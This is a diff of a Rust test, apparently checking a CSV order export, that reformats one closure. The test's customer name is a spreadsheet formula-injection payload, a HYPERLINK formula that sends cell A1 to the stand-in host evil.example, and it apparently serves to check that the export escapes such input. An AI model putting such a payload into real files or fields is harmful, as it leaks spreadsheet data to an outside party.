@@ -147,7 +147,9 @@ mod tests {
         let v = Vitrine::open(dir.path()).expect("open");
         let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Ana\")";
         v.store
-            .write(|tx| super::super::ingest::apply(tx, &super::super::ingest::Incoming::Known(cart(name))))
+            .write(|tx| {
+                super::super::ingest::apply(tx, &super::super::ingest::Incoming::Known(cart(name)))
+            })
             .expect("the cart is stored");
         let dest = dir.path().join("orders.csv");
         let summary = v
